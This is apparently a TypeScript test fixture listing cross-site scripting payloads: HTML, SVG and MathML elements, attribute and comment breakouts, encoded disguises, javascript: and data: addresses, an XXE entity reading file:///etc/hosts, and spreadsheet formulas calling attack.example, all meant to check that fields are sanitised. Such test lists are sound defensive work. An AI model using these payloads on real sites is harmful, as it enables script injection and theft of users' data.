/**
 * What somebody may write into a field to run code in the page of a reader. Whatever runs calls
 * `xss()`, and whatever loads asks attack.example, so a test can see both.
 */

/** Elements that run or load something where text is taken for HTML, SVG or MathML. */
export const ELEMENTS = [
  '<script>xss()</script>',
  '<ScRiPt >xss()</sCrIpT\t>',
  '<script src=//attack.example/a.js></script>',
  '<script>xss() //',
  '<img src=x onerror=xss()>',
  '<img/src="x"/onerror="xss()"/>',
  '<image href=x onerror=xss()>',
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><a><set attributeName=href to=javascript:xss() /><text y=9>a</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=a onload=xss()/>#a"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>">',
  '<svg><style><img src=x onerror=xss()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">',
  '<math><a xlink:href="javascript:xss()">a</a></math>',
  '<style>@import "//attack.example/b.css";</style>',
  '<style>body{background:url(//attack.example/c)}</style>',
  '<link rel=stylesheet href=//attack.example/d.css>',
  '<base href=//attack.example/>',
  '<meta http-equiv=refresh content="0;url=//attack.example/">',
  '<iframe src="javascript:parent.xss()"></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<object data="data:text/html,<script>xss()</script>"></object>',
  '<embed src=//attack.example/e.swf>',
  '<details open ontoggle=xss()>',
  '<video><source onerror=xss()></video>',
  '<input autofocus onfocus=xss()>',
  '<body onload=xss()>',
  '<form action=javascript:xss()><button formaction=javascript:xss()>a</button></form>',
  '<unknown-element id=u tabindex=1 onfocus=xss() autofocus>',
  '<div style="background:url(//attack.example/f)">',
  '<a href="jav&#x09;ascript:xss()">a</a>',
  '<template><img src=x onerror=xss()></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<xmp><p title="</xmp><img src=x onerror=xss()>">',
  '<plaintext>',
];

/** Ways out of what a text is put into: an attribute, an element of text, a comment, a string of code. */
const WAYS_OUT = [
  '"><img src=x onerror=xss()>',
  "'><img src=x onerror=xss()>",
  '" onmouseover="xss()" x="',
  "' autofocus tabindex=1 onfocus='xss()",
  ' onclick=xss() ',
  '` onerror=xss() `',
  '</title><img src=x onerror=xss()>',
  '</textarea><img src=x onerror=xss()>',
  '</style><img src=x onerror=xss()>',
  '</script><script>xss()</script>',
  '<!--<script>',
  '</svg><img src=x onerror=xss()>',
  '</desc></text><script>xss()</script>',
  '</table></p></a><img src=x onerror=xss()>',
  '--><img src=x onerror=xss()>',
  '--!><img src=x onerror=xss()>',
  '<!--><img src=x onerror=xss()>-->',
  '<![CDATA[<script>xss()</script>]]>',
  ']]><script>xss()</script>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hosts">]>&e;',
  '<?xml-stylesheet href="javascript:xss()"?>',
  '"}</script><img src=x onerror=xss()>',
  "'-xss()-'",
  '";xss()//',
  '\\";xss()//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text of an attack
  '${xss()}',
  '{xss()}',
  '{{constructor.constructor("xss()")()}}',
  '$& $` $1',
];

/** Signs that some later reader may turn into others. */
const DISGUISES = [
  '&lt;script&gt;xss()&lt;/script&gt;',
  '&#60;img src=x onerror=xss()&#62;',
  '&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;',
  '%3Cscript%3Exss()%3C/script%3E',
  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=xss()\\x3e',
  '＜script＞xss()＜/script＞',
  '<scr\u200bipt>xss()</scr\u200bipt>',
  '<scr<script>ipt>xss()</script>',
  '\u2028xss()\u2029',
  '\u2067<b onclick=xss()>\u2069',
  '\ufeff<img src=x onerror=xss()>',
  '<ımg src=x onerror=xss()>',
];

/** What a spreadsheet runs when a cell begins with it. */
const FORMULAS = [
  '=HYPERLINK("//attack.example/","x")',
  '+xss()',
  '-xss()',
  '@SUM(1)',
  '＝xss()',
  '\'=IMPORTXML("//attack.example/","x")',
  '"=xss()"',
];

/** Addresses that are code, or that leave the site where none was meant to. */
export const ADDRESSES = [
  'javascript:xss()',
  'JaVaScRiPt:xss()',
  'java\tscript:xss()',
  'java\nscript:xss()',
  ' javascript:xss()',
  'javascript\t:xss()',
  'javascript&colon;xss()',
  '&#106;avascript:xss()',
  'javascript://%0axss()',
  'vbscript:xss()',
  'data:text/html,<script>xss()</script>',
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=xss()>',
  'blob:https://attack.example/a',
  'file:///etc/hosts',
  '//attack.example/',
  '/\\attack.example/',
  '\\\\attack.example\\',
];

/** Addresses of the web, which links may have, with signs that would end an attribute. */
export const WEB_ADDRESSES = [
  'https://attack.example/"><img/src=x/onerror=xss()>',
  "https://attack.example/'onclick='xss()",
  'https://attack.example/?a=<script>xss()</script>&b=&quot;c',
  'https://attack.example/#javascript:xss()',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text of an attack
  'HTTPS://attack.example/`${xss()}`',
];

/** Signs that no text may hold: some files cannot, and some turn the letters after them round. */
export const REFUSED_SIGNS = ['\u0000', '\u0008', '\u001b', '\u202e', '\u202d', '\ufffe', '\ud800'];

/** In several variants of the content each field gets each of them. */
export const PAYLOADS = [...FORMULAS, ...ELEMENTS, ...WAYS_OUT, ...DISGUISES, ...ADDRESSES];
